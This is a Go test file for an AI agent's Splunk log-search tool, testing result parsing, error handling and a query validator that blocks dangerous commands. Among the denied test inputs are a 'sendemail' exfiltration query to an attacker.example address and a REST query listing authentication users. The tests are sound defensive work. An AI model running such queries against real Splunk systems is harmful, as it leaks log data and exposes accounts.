package tool

import (
	"context"
	"net/http"
	"net/http/httptest"
	"testing"

	ai "github.com/spetersoncode/warden"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestSplunk_Export(t *testing.T) {
	var gotSearch, gotAuth, gotEarliest string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		assert.Equal(t, "/services/search/jobs/export", r.URL.Path)
		assert.NoError(t, r.ParseForm())
		gotSearch = r.PostForm.Get("search")
		gotEarliest = r.PostForm.Get("earliest_time")
		gotAuth = r.Header.Get("Authorization")
		w.Write([]byte(`{"preview":true,"result":{"_raw":"partial"}}
{"preview":false,"result":{"_raw":"failed login for admin"}}

{"preview":false,"result":{"_raw":"failed login for root"}}
{"preview":false,"result":{"_raw":"third"}}
`))
	}))
	defer srv.Close()

	r := NewRegistry().Add(Splunk(SplunkConfig{BaseURL: srv.URL, Token: "tok", Earliest: "-24h", MaxEvents: 2}))
	res, err := r.Execute(context.Background(), ai.ToolCall{ID: "c", Name: SplunkLogFetcherName, Arguments: `{"query":"index=auth action=failure"}`})

	require.NoError(t, err)
	require.False(t, res.IsError, res.Content)
	assert.Equal(t, "failed login for admin\nfailed login for root", res.Content)
	assert.Equal(t, "search index=auth action=failure", gotSearch)
	assert.Equal(t, "-24h", gotEarliest)
	assert.Equal(t, "Bearer tok", gotAuth)
}

func TestSplunk_NoEvents(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	defer srv.Close()

	r := NewRegistry().Add(Splunk(SplunkConfig{BaseURL: srv.URL}))
	res, err := r.Execute(context.Background(), ai.ToolCall{ID: "c", Name: SplunkLogFetcherName, Arguments: `{"query":"index=auth user=nobody"}`})

	require.NoError(t, err)
	assert.Equal(t, "no events found", res.Content)
}

func TestSplunk_Errors(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "unauthorized", http.StatusUnauthorized)
	}))
	defer srv.Close()

	r := NewRegistry().Add(Splunk(SplunkConfig{BaseURL: srv.URL}))
	ctx := context.Background()

	res, err := r.Execute(ctx, ai.ToolCall{ID: "c", Name: SplunkLogFetcherName, Arguments: `{"query":"x"}`})
	require.NoError(t, err)
	assert.True(t, res.IsError)
	assert.Contains(t, res.Content, "status 401")

	res, err = r.Execute(ctx, ai.ToolCall{ID: "c", Name: SplunkLogFetcherName, Arguments: `{"query":" "}`})
	require.NoError(t, err)
	assert.True(t, res.IsError)
}

func TestCheckQuery(t *testing.T) {
	tests := []struct {
		query   string
		want    string
		wantErr string
	}{
		{query: "index=auth action=failure", want: "search index=auth action=failure"},
		{query: "Search index=auth | stats count by user", want: "Search index=auth | stats count by user"},
		{query: "| rest /services/authentication/users", wantErr: "not a generating command"},
		{query: "| tstats count", wantErr: "not a generating command"},
		{query: "index=auth | sendemail to=x@attacker.example", wantErr: `command "sendemail" is not allowed`},
		{query: "search index=auth | OutputLookup users.csv", wantErr: `command "OutputLookup" is not allowed`},
	}
	for _, tt := range tests {
		t.Run(tt.query, func(t *testing.T) {
			got, err := checkQuery(tt.query)
			if tt.wantErr != "" {
				assert.ErrorContains(t, err, tt.wantErr)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.want, got)
		})
	}
}

func TestSplunk_DeniedCommandNeverSent(t *testing.T) {
	var hits int
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits++ }))
	defer srv.Close()

	r := NewRegistry().Add(Splunk(SplunkConfig{BaseURL: srv.URL}))
	res, err := r.Execute(context.Background(), ai.ToolCall{ID: "c", Name: SplunkLogFetcherName, Arguments: `{"query":"| rest /services/server/info"}`})

	require.NoError(t, err)
	assert.True(t, res.IsError)
	assert.Zero(t, hits)
}
